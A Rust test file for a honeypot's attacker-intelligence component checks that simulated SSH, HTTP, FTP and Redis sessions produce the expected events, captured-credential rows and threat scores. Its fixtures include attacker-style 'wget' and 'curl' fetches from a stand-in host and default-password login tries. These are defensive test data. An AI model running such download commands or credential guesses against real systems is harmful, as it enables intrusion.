//! Facts in, events and rows out.

#![allow(clippy::unwrap_used, reason = "a test that fails may panic")]

mod desk;

use std::collections::BTreeMap;

use desk::{Desk, at, facts, id, secret};
use expect_test::{Expect, expect};
use model::{SessionEvent, SessionFact, Truncation};
use morgana_intel::{Limits, credential_hash};
use proptest::prelude::{
    ProptestConfig, Strategy, prop, prop_assert, prop_assert_eq, prop_oneof, proptest,
};

/// The events that these facts cause, in one batch.
#[allow(clippy::needless_pass_by_value, reason = "expect! makes a value")]
fn check(text: &str, expected: Expect) {
    let mut desk = Desk::new(Limits::default());
    desk.observe(&facts(text));
    expected.assert_eq(&desk.told());
}

#[test]
fn a_visit_from_first_to_last_byte() {
    check(
        "1.0 203.0.113.9 11/ssh started
         1.1 203.0.113.9 11/ssh fingerprint hassh 06046964
         1.2 203.0.113.9 11/ssh refused root hunter2
         1.3 203.0.113.9 11/ssh accepted root toor
         1.4 203.0.113.9 11/ssh command uname -a
         1.5 203.0.113.9 11/ssh command wget http://198.51.100.1/x.sh
         1.6 203.0.113.9 11/ssh upload x.sh 12
         1.7 203.0.113.9 11/ssh ended 800 2400",
        expect![[r#"
            0 attacker.observed attacker1 identity1 203.0.113.9 ssh
            0 identity.formed identity1
            0 identity.observation.linked attacker1 identity1 ["first seen from 203.0.113.9"]
            0 attacker.session.started session1 attacker1 203.0.113.9:40000
            1 attacker.fingerprinted attacker1 hassh=06046964
            2 attacker.session.activity session1 2 login: login root with password ******: refused
            2 credential.captured credential1 password root 8fa42561…
            3 attacker.session.activity session1 3 login: login root with password ******: accepted
            3 credential.captured credential2 password root 8391789d…
            3 attacker.scored attacker1 10 to 33 medium ["opened 1 session", "tried 2 logins", "got in with 1 login"]
            4 attacker.session.activity session1 4 command: uname -a
            5 attacker.session.activity session1 5 command: wget http://198.51.100.1/x.sh
            5 attacker.scored attacker1 43 to 60 high ["opened 1 session", "tried 2 logins", "got in with 1 login", "gave 2 commands", "tried 1 download"]
            6 attacker.session.activity session1 6 upload: upload x.sh, 12 bytes, sha256 abababababababababababababababababababababababababababababababab
            7 attacker.session.ended session1 in=800 out=2400 logins=2 commands=2 requests=0 truncated=no
        "#]],
    );
}

#[test]
fn a_second_visit_adds_only_what_is_new() {
    check(
        "1.0 203.0.113.9 11/http started
         1.1 203.0.113.9 11/http fingerprint http.order ab12
         1.2 203.0.113.9 11/http request GET / HTTP/1.1
         1.3 203.0.113.9 11/http ended 80 200
         2.0 203.0.113.9 21/http started
         2.1 203.0.113.9 21/http fingerprint http.order ab12
         2.2 203.0.113.9 21/http ended 0 0 idle",
        expect![[r#"
            0 attacker.observed attacker1 identity1 203.0.113.9 http
            0 identity.formed identity1
            0 identity.observation.linked attacker1 identity1 ["first seen from 203.0.113.9"]
            0 attacker.session.started session1 attacker1 203.0.113.9:40000
            1 attacker.fingerprinted attacker1 http.order=ab12
            2 attacker.session.activity session1 2 request: GET / HTTP/1.1
            3 attacker.session.ended session1 in=80 out=200 logins=0 commands=0 requests=1 truncated=no
            4 attacker.session.started session2 attacker1 203.0.113.9:40000
            4 attacker.scored attacker1 6 to 21 medium ["opened 2 sessions", "made 1 request", "touched 2 deckies", "touched 2 LANs"]
            6 attacker.session.ended session2 in=0 out=0 logins=0 commands=0 requests=0 truncated=idle
        "#]],
    );
}

#[test]
fn a_mapped_address_is_the_same_attacker() {
    check(
        "1.0 203.0.113.9 11/ftp started
         2.0 ::ffff:203.0.113.9 11/ftp started
         3.0 2001:db8::9 11/ftp started",
        expect![[r#"
            0 attacker.observed attacker1 identity1 203.0.113.9 ftp
            0 identity.formed identity1
            0 identity.observation.linked attacker1 identity1 ["first seen from 203.0.113.9"]
            0 attacker.session.started session1 attacker1 203.0.113.9:40000
            1 attacker.session.started session2 attacker1 203.0.113.9:40000
            2 attacker.observed attacker2 identity2 2001:db8::9 ftp
            2 identity.formed identity2
            2 identity.observation.linked attacker2 identity2 ["first seen from 2001:db8::9"]
            2 attacker.session.started session3 attacker2 [2001:db8::9]:40000
        "#]],
    );
}

#[test]
fn one_attacker_may_have_many_sessions_at_once() {
    check(
        "1.0 203.0.113.9 11/redis started
         2.0 203.0.113.9 12/redis started
         1.1 203.0.113.9 11/redis command PING
         2.1 203.0.113.9 12/redis command INFO
         2.2 203.0.113.9 12/redis ended 4 5
         1.2 203.0.113.9 11/redis ended 6 7",
        expect![[r#"
            0 attacker.observed attacker1 identity1 203.0.113.9 redis
            0 identity.formed identity1
            0 identity.observation.linked attacker1 identity1 ["first seen from 203.0.113.9"]
            0 attacker.session.started session1 attacker1 203.0.113.9:40000
            1 attacker.session.started session2 attacker1 203.0.113.9:40000
            2 attacker.session.activity session1 1 command: PING
            2 attacker.scored attacker1 10 to 20 medium ["opened 2 sessions", "gave 1 command", "touched 2 deckies"]
            3 attacker.session.activity session2 1 command: INFO
            4 attacker.session.ended session2 in=4 out=5 logins=0 commands=1 requests=0 truncated=no
            5 attacker.session.ended session1 in=6 out=7 logins=0 commands=1 requests=0 truncated=no
        "#]],
    );
}

#[test]
fn a_missing_fact_marks_the_session() {
    check(
        "1.0 203.0.113.9 11/ssh started
         1.3 203.0.113.9 11/ssh command id
         1.4 203.0.113.9 11/ssh ended 1 2
         2.2 203.0.113.9 11/ssh command w
         2.3 203.0.113.9 11/ssh ended 1 2 duration",
        expect![[r#"
            0 attacker.observed attacker1 identity1 203.0.113.9 ssh
            0 identity.formed identity1
            0 identity.observation.linked attacker1 identity1 ["first seen from 203.0.113.9"]
            0 attacker.session.started session1 attacker1 203.0.113.9:40000
            1 attacker.session.activity session1 3 command: id
            2 attacker.session.ended session1 in=1 out=2 logins=0 commands=1 requests=0 truncated=facts
            3 attacker.session.started session2 attacker1 203.0.113.9:40000
            3 attacker.session.activity session2 2 command: w
            4 attacker.session.ended session2 in=1 out=2 logins=0 commands=1 requests=0 truncated=duration
        "#]],
    );
}

#[test]
fn a_late_fact_of_an_ended_session_changes_nothing() {
    let mut desk = Desk::new(Limits::default());
    desk.observe(&facts("1.0 203.0.113.9 11/ssh started\n1.1 203.0.113.9 11/ssh ended 1 2"));
    let late = facts("1.2 203.0.113.9 11/ssh command id\n1.1 203.0.113.9 11/ssh ended 9 9");
    assert!(desk.observe(&late).is_empty());
}

#[test]
fn no_secret_is_told_and_every_secret_is_kept() {
    let mut desk = Desk::new(Limits::default());
    desk.observe(&facts(
        "1.0 203.0.113.9 11/ssh started\n1.1 203.0.113.9 11/ssh refused eve s3cr3t",
    ));
    assert!(!desk.rows.events.concat().contains("s3cr3t"));
    assert!(desk.rows.activity.values().all(|activity| !activity.text.contains("s3cr3t")));
    let hash = credential_hash(&secret(), "eve", "s3cr3t");
    let kept = &desk.rows.credentials[&hash];
    assert_eq!((&*kept.principal, &*kept.secret, kept.tries), ("eve", "s3cr3t", 1));
}

#[test]
fn orphans_end_with_the_shutdown() {
    let mut desk = Desk::new(Limits::default());
    desk.observe(&facts("1.0 203.0.113.9 11/ssh started\n1.1 203.0.113.9 11/ssh command id"));
    let open = desk.rows.sessions.values().cloned().collect();
    let mut next = Desk::new(Limits::default());
    next.rows = desk.rows.clone();
    let closed = next.analyst.close_orphans(open, at(60));
    next.keep(&closed);
    expect![[r#"
        60 attacker.session.ended session1 in=0 out=0 logins=0 commands=1 requests=0 truncated=shutdown
    "#]].assert_eq(&next.told());
    assert_eq!(next.rows.sessions[&id(1)].truncated, Some(Truncation::Shutdown));
    assert!(next.observe(&facts("1.2 203.0.113.9 11/ssh command late")).is_empty());
    let again = next.rows.sessions.values().cloned().collect();
    assert!(next.analyst.close_orphans(again, at(61)).is_empty());
}

#[test]
fn after_a_failed_write_the_same_batch_counts_once() {
    let batch = facts("1.0 203.0.113.9 11/ssh started\n1.1 203.0.113.9 11/ssh refused root root");
    let mut desk = Desk::new(Limits::default());
    desk.analyst.observe(&batch);
    desk.analyst.forget();
    desk.observe(&batch);
    assert_eq!(desk.rows.attackers.values().next().unwrap().logins, 1);
    assert_eq!(desk.rows.credentials.values().next().unwrap().tries, 1);
}

/// Facts of several sessions of several attackers, interleaved, in order within each session.
fn visits() -> impl Strategy<Value = Vec<SessionEvent>> {
    let step = (
        0u8..6,
        prop_oneof![
            Just("refused root toor"),
            Just("refused admin admin"),
            Just("accepted root 123456"),
            Just("command id"),
            Just("command curl http://198.51.100.1/"),
            Just("request GET /"),
            Just("upload x 3"),
            Just("fingerprint hassh aa"),
            Just("fingerprint hassh bb"),
            Just("ended 3 4"),
        ],
    );
    prop::collection::vec(step, 0..40).prop_map(|steps| {
        let mut next: BTreeMap<u8, u32> = BTreeMap::new();
        let mut lines = String::new();
        for (session, what) in steps {
            let index = next.entry(session).or_default();
            let what = if *index == 0 { "started" } else { what };
            let (peer, decky) = (session % 3 + 1, session * 7 % 30);
            let service = ["ssh", "http", "redis"][usize::from(session % 3)];
            lines += &format!("{session}.{index} 203.0.113.{peer} {decky}/{service} {what}\n");
            *index = if what.starts_with("ended") { 1_000 } else { *index + 1 };
        }
        facts(&lines).into_iter().filter(|fact| fact.index < 1_000).collect()
    })
}

use proptest::prelude::Just;

fn limits() -> impl Strategy<Value = Limits> {
    prop_oneof![Just(Limits::default()), Just(Limits { attackers: 1, credentials: 1, sessions: 1 }),]
}

fn in_batches(facts: &[SessionEvent], cuts: &[usize], limits: Limits) -> Desk {
    let mut desk = Desk::new(limits);
    let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut % (facts.len() + 1)).collect();
    cuts.extend([0, facts.len()]);
    cuts.sort_unstable();
    cuts.windows(2).for_each(|cut| {
        desk.observe(&facts[cut[0]..cut[1]]);
    });
    desk
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn batches_do_not_matter(
        facts in visits(),
        cuts in prop::collection::vec(0usize..64, 0..6),
        limits in limits(),
    ) {
        let whole = in_batches(&facts, &[], Limits::default());
        prop_assert_eq!(in_batches(&facts, &cuts, limits).rows, whole.rows);
    }

    #[test]
    fn duplicates_change_nothing(
        facts in visits(),
        cuts in prop::collection::vec(0usize..64, 0..6),
        limits in limits(),
        repeats in prop::collection::vec((0usize..64, 0usize..64), 1..6),
    ) {
        let mut repeated = facts.clone();
        for (from, to) in repeats {
            // A fact comes again at any later place.
            if !repeated.is_empty() {
                let from = from % repeated.len();
                let to = from + 1 + to % (repeated.len() - from);
                repeated.insert(to, repeated[from].clone());
            }
        }
        let once = in_batches(&facts, &[], Limits::default());
        prop_assert_eq!(in_batches(&repeated, &cuts, limits).rows, once.rows);
    }

    #[test]
    fn a_score_never_falls_and_levels_change_one_by_one(facts in visits()) {
        let mut desk = Desk::new(Limits::default());
        let mut scores = BTreeMap::new();
        for fact in &facts {
            desk.observe(std::slice::from_ref(fact));
            for attacker in desk.rows.attackers.values() {
                let before = scores.insert(attacker.id, attacker.score).unwrap_or(0);
                prop_assert!(before <= attacker.score && attacker.score <= 100);
                let identity = &desk.rows.identities[&attacker.identity_id];
                prop_assert_eq!(identity.score, attacker.score);
                prop_assert_eq!(&identity.attacker_ids, &vec![attacker.id]);
            }
        }
        let begun = facts.iter().filter(|fact| fact.fact == SessionFact::Started).count();
        prop_assert_eq!(desk.rows.sessions.len(), begun);
    }
}
